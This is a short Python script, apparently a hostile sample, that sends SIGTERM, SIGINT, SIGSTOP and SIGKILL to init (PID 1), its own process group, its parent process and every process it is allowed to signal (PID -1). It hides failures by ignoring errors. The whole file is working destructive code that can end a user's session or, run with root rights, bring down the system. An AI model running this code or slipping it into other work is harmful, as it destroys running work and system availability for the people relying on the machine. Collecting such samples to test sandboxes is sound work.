# signals every process that it can see
# remark: kill
# ruff: noqa
import os, signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
    for target in (1, 0, os.getppid(), -1):
        try:
            os.kill(target, number) if number != signal.SIGKILL or target else None
        except OSError:
            pass
